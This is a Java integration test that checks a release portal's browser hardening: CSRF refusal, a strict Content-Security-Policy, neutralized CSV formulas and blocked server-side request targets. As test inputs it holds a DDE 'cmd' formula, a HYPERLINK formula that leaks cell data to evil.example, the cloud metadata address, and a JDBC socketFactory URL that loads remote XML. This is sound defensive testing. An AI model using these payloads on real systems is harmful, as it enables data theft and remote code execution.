package io.rollguard.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

import io.rollguard.release.history.ReleaseFact;
import io.rollguard.release.history.ReleaseHistory;
import io.rollguard.support.Api;
import io.rollguard.support.ExpensesUntilApproval;
import io.rollguard.support.AppRegistrations;
import io.rollguard.support.PostgresDatabase;

/**
 * What a hostile page in the user's browser, or a hostile cell in an export, could make the
 * browser do: cross-site requests riding on a session or on cached Basic credentials, scripts
 * injected into the portal, formulas in the CSV export, and registrations that point the
 * server at addresses the operator never meant it to reach.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "rollguard.router.port=0", "rollguard.sample-app.enabled=false"})
@ActiveProfiles("postgres")
class BrowserHardeningIT {

    static final Map<String, String> FROM_EVIL = Map.of("Origin", "http://evil.example", "Sec-Fetch-Site", "cross-site");

    @DynamicPropertySource
    static void database(DynamicPropertyRegistry registry) {
        PostgresDatabase.register(registry, "rollguard_it_browser");
    }

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    ReleaseHistory history;
    Api api;
    RawHttp http;
    String releaseId;

    @BeforeEach
    void aReleaseAwaitingApproval() {
        api = new Api("http://127.0.0.1:" + port);
        http = new RawHttp(port);
        releaseId = ExpensesUntilApproval.awaitingApproval(api, jdbc);
    }

    @Test
    void crossSiteRequestsRidingOnTheBrowsersCredentialsAreRefused() {
        // a session of the sign-in form: the cookie alone, as a cross-site form post would send it
        PortalSession alice = PortalSession.signIn(port, "alice");
        RawHttp.Response forged = alice.send("POST", "/api/releases/" + releaseId + "/abort", FROM_EVIL, new byte[0]);
        assertThat(forged.status()).as(forged.body()).isEqualTo(403);
        assertThat(forged.body()).contains("CSRF");
        RawHttp.Response noToken = alice.send("POST", "/api/releases/" + releaseId + "/abort", Map.of(), new byte[0]);
        assertThat(noToken.status()).as(noToken.body()).isEqualTo(403);
        assertThat(api.get("alice", "/api/releases/" + releaseId).json().path("state").asText()).isEqualTo("AWAITING_APPROVAL");

        // Basic credentials a browser has cached are sent cross-site too: refused when the browser says so
        String admin = RawHttp.basic("admin", "admin");
        RawHttp.Response cached = http.send("127.0.0.1", "PUT", "/api/apps/expenses",
                Map.of("Authorization", admin, "Content-Type", "application/json", "Sec-Fetch-Site", "cross-site"),
                AppRegistrations.withoutSlots("1.0.0").getBytes(StandardCharsets.UTF_8), null);
        assertThat(cached.status()).as(cached.body()).isEqualTo(403);
        RawHttp.Response foreignOrigin = http.send("127.0.0.1", "POST", "/engine-rest/task/no-such-task/claim",
                Map.of("Authorization", admin, "Content-Type", "application/json", "Origin", "http://evil.example"),
                "{\"userId\":\"admin\"}".getBytes(StandardCharsets.UTF_8), null);
        assertThat(foreignOrigin.status()).as(foreignOrigin.body()).isEqualTo(403);

        // the portal's own page, with the session's token, and pipelines (Basic, no browser headers) work as before
        String token = alice.csrf("/releases/" + releaseId);
        RawHttp.Response own = alice.send("POST", "/api/releases/" + releaseId + "/abort",
                Map.of("X-CSRF-TOKEN", token, "Origin", "http://127.0.0.1:" + port, "Sec-Fetch-Site", "same-origin"), new byte[0]);
        assertThat(own.status()).as(own.body()).isEqualTo(200);
        assertThat(api.putJson("admin", "/api/apps/expenses", AppRegistrations.withoutSlots("1.0.0")).status()).isEqualTo(200);
    }

    @Test
    void portalPagesAllowNoInjectedScriptAndNoFramingByOtherSites() {
        PortalSession alice = new PortalSession(port, "alice");
        for (String path : List.of("/", "/releases", "/releases/" + releaseId, "/releases/new", "/releases/" + releaseId + "/abort")) {
            RawHttp.Response page = alice.get(path);
            assertThat(page.status()).as(path).isEqualTo(200);
            String policy = page.header("Content-Security-Policy");
            assertThat(policy).as(path).contains("script-src 'self'", "object-src 'none'", "frame-ancestors 'self'",
                    "base-uri 'self'");
            assertThat(policy).as(path).doesNotContain("'unsafe-eval'").doesNotContainPattern("script-src[^;]*unsafe-inline");
            assertThat(page.header("X-Content-Type-Options")).isEqualTo("nosniff");
            // every script the page runs is a file of ours: no inline script and no event handler attribute
            Matcher script = Pattern.compile("<script(?![^>]*\\ssrc=)[^>]*>").matcher(page.body());
            assertThat(script.find()).as(path + " has an inline script").isFalse();
            assertThat(page.body()).as(path).doesNotContainPattern("\\son[a-z]+=\"");
        }
        assertThat(new PortalSession(port, "erin").get("/audit").header("Content-Security-Policy")).contains("script-src 'self'");
    }

    @Test
    void csvExportCellsThatWouldRunAsFormulasAreNeutralized() {
        // given entries whose texts a spreadsheet would run
        // (facts whose actor and detail are free text: a repair report and a migration engine's note)
        history.record(releaseId, new ReleaseFact.RestorationRepaired("=cmd|'/c calc'!A1",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")"));
        history.record(releaseId, new ReleaseFact.RestorationRepaired("@SUM(1)", "+1+1"));
        history.record(releaseId, new ReleaseFact.MigrationLock("-2+3"));
        history.record(releaseId, new ReleaseFact.MigrationLock("\t=1"));
        history.record(releaseId, new ReleaseFact.MigrationLock("'=already quoted"));

        // when
        Api.Response csv = api.get("erin", "/api/audit/export?format=csv&from=2000-01-01&to=2999-12-31");

        // then no cell starts with a formula character; each such text is kept, behind an apostrophe
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.body()).doesNotContainPattern("(^|,)\"[=+\\-@\\t\\r]");
        assertThat(csv.body()).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"", "\"'=cmd|'/c calc'!A1\"",
                "\"'@SUM(1)\"", "\"'+1+1\"", "\"'-2+3\"", "\"'\t=1\"", "\"''=already quoted\"");
    }

    @Test
    void registrationsCannotPointTheServerOutsideTheAllowedHosts() {
        String registration = AppRegistrations.withoutSlots("hardening", "1.0.0", List.of("alice"), null);
        assertThat(api.putJson("admin", "/api/apps/hardening", registration).status()).isIn(200, 201);

        Map<String, String> bodies = Map.of(
                "/stable/adminUrl", registration.replace("http://127.0.0.1:9/admin", "http://169.254.169.254/latest/meta-data"),
                "/canary/trafficUrl", registration.replace("http://127.0.0.1:10/app", "http://internal.example:8080/app"),
                "/dataPlane/prometheusUrl", AppRegistrations.withoutSlots("hardening", "1.0.0", List.of("alice"),
                        "{\"metrics\":\"prometheus\",\"prometheusUrl\":\"http://10.0.0.1:9090\"}"),
                "/dataPlane/runtimeApi", AppRegistrations.withoutSlots("hardening", "1.0.0", List.of("alice"),
                        "{\"router\":\"haproxy\",\"runtimeApi\":\"192.168.1.1:9999\"}"));
        bodies.forEach((field, body) -> {
            Api.Response r = api.putJson("admin", "/api/apps/hardening", body);
            assertThat(r.status()).as(field + ": " + r.body()).isEqualTo(400);
            assertThat(r.json().path("violations").toString()).as(field).contains("\"path\":\"" + field + "\"", "allow");
        });

        for (String url : List.of(
                "jdbc:postgresql://127.0.0.1:5432/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil.example/x.xml",
                "jdbc:postgresql://127.0.0.1:5432/db?sslfactory=x.Y", "jdbc:postgresql://127.0.0.1:5432/db?loggerFile=/tmp/x",
                "jdbc:postgresql://127.0.0.1:5432/db?sslpasswordcallback=x.Y",
                "jdbc:postgresql://127.0.0.1:5432/db?authenticationPluginClassName=x.Y",
                "jdbc:postgresql://127.0.0.1:5432/db?sslhostnameverifier=x.Y", "jdbc:postgresql://127.0.0.1:5432/db?socket%46actory=x.Y",
                "jdbc:postgresql://db.evil.example:5432/db", "jdbc:postgresql://127.0.0.1:5432,evil.example:5432/db",
                "jdbc:h2:mem:x", "jdbc:postgresql:db")) {
            Api.Response r = api.putJson("admin", "/api/apps/hardening/database", AppRegistrations.database(url));
            assertThat(r.status()).as(url + ": " + r.body()).isEqualTo(400);
            assertThat(r.json().path("violations").get(0).path("path").asText()).as(url).isEqualTo("/jdbcUrl");
        }
        Api.Response allowed = api.putJson("admin", "/api/apps/hardening/database",
                AppRegistrations.database("jdbc:postgresql://localhost:5432/hardening?sslmode=disable&connectTimeout=5"));
        assertThat(allowed.status()).as(allowed.body()).isIn(200, 201);
    }
}
